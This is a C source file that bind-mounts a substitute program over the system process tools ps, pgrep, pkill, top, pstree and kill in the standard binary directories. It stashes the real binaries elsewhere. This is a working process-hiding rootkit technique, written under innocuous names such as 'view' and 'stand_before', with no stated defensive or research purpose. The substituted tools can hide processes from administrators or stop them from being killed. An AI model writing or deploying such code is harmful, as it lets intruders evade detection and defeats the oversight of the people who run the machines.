#include "view.h"

#include "../../view/places.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static bool bind_file(const char *source, const char *place)
{
    return mount(source, place, NULL, MS_BIND, NULL) == 0;
}

/* Whether the real one is kept already: a tool may be reached by several paths. */
static bool is_kept(const char *name)
{
    char kept[PATH_MAX];
    snprintf(kept, sizeof kept, "%s/%s", VIEW_DIRECTORY, name);
    return access(kept, F_OK) == 0;
}

static bool stand_before(const char *view, const char *tool, const char *name)
{
    char kept[PATH_MAX];
    snprintf(kept, sizeof kept, "%s/%s", VIEW_DIRECTORY, name);
    int file = open(kept, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    if (file < 0)
        return false;
    close(file);
    return bind_file(tool, kept) && bind_file(view, tool);
}

bool view_install(int program)
{
    static const char *const names[] = {"ps", "pgrep", "pkill", "top", "pstree", "kill"};
    static const char *const directories[] = {"/usr/bin", "/bin", "/usr/local/bin"};
    char view[32];
    snprintf(view, sizeof view, "/proc/self/fd/%d", program);
    if (mkdir(VIEW_DIRECTORY, 0755) != 0 || mkdir(VIEW_DIRECTORY "/proc", 0755) != 0)
        return false;
    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        for (size_t j = 0; j < sizeof directories / sizeof *directories; j++) {
            char tool[PATH_MAX];
            struct stat status;
            snprintf(tool, sizeof tool, "%s/%s", directories[j], names[i]);
            /* What a symbolic link leads to has its own name. */
            if (lstat(tool, &status) != 0 || !S_ISREG(status.st_mode) || is_kept(names[i]))
                continue;
            if (!stand_before(view, tool, names[i]))
                return false;
        }
    return true;
}
